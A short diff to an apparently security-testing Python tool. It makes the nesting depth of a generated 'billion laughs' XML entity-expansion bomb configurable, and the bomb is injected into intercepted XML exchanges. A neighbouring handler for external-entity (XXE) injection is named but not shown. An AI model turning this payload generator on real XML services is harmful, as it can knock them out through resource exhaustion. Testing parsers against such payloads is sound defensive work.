@@ -162,15 +162,16 @@ def _with_entity(xml: str, declarations: str, external: str = "") -> str:
     return f"{before}{document_type}{root[: end - start.start()]}&{ENTITY};{xml[end:]}"
 
 
-def _laughs() -> str:
+def _laughs(levels: int) -> str:
+    """Declare entities that unfold to ten times as much with each level."""
     entities = ['<!ENTITY level0 "laugh">']
-    for level in range(1, 10):
+    for level in range(1, levels + 1):
         entities.append(f'<!ENTITY level{level} "{f"&level{level - 1};" * 10}">')
-    return "".join([*entities, f'<!ENTITY {ENTITY} "&level9;">'])
+    return "".join([*entities, f'<!ENTITY {ENTITY} "&level{levels};">'])
 
 
 async def _xml_bomb(exchange: Exchange) -> None:
-    await _send_changed(exchange, lambda xml: _with_entity(xml, _laughs()))
+    await _send_changed(exchange, lambda xml: _with_entity(xml, _laughs(int(exchange.options["levels"]))))
 
 
 async def _external_entity(exchange: Exchange) -> None:
